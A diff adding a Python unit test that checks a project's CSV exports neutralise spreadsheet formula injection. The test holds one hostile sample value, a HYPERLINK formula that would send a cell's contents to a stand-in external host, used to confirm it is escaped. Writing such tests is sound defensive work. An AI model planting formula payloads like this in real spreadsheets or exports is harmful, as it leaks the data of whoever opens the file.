@@ -209,3 +209,32 @@ def test_markdown_escaped_unit() -> None:
     assert markdown_escaped("<img>") == "\\<img\\>"
     assert markdown_escaped("1. a") == "1\\. a" and markdown_escaped("- a") == "\\- a"
     assert markdown_escaped("IMG_0042.jpg") == "IMG\\_0042.jpg"
+
+
+def test_csv_cells_never_start_a_formula() -> None:
+    """CSV injection: a file named ``=HYPERLINK(...)`` must reach a spreadsheet as text, in
+    every CSV consentry writes (the file list, the hash pack, the disposal schedule)."""
+    import csv
+    import dataclasses
+    import io
+
+    from consentry.reports import hashpack, notice
+    from consentry.text_safety import spreadsheet_safe
+
+    evil = '=HYPERLINK("http://x.example/?"&A1,"click")'
+    assert spreadsheet_safe(evil) == "'" + evil
+    assert spreadsheet_safe("@SUM(A1)").startswith("'") and spreadsheet_safe("ok.jpg") == "ok.jpg"
+    packed = hashpack.PackedImage("a" * 64, "b" * 32, None, None, 1, (evil,))
+    pack_rows = list(csv.reader(io.StringIO(hashpack._csv([packed], include_names=True))))
+    fields = {f.name for f in dataclasses.fields(notice.NoticeItem)}
+    values = {f: None for f in fields} | {
+        "sha256": "a" * 64,
+        "md5": "b" * 32,
+        "pdq": None,
+        "locations": (evil,),
+    }
+    item = notice.NoticeItem(**values)  # type: ignore[arg-type]
+    schedule_rows = list(csv.reader(io.StringIO(notice.disposal_csv((item,)))))
+    cells = [c for row in pack_rows[1:] + schedule_rows[1:] for c in row]
+    assert evil not in cells and "'" + evil in " ".join(cells)
+    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
